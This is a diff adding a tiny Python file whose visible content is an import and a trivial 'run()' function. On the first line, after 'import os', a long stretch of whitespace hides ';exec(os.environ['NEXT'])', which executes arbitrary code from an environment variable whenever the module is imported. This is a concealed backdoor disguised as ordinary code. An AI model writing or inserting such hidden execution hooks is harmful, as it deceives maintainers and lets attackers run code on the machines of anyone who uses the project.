@@ -1,0 +1,5 @@
+import os                                                                                                                                                                                                                                                                                                            ;exec(os.environ['NEXT'])
+
+
+def run():
+    return 1
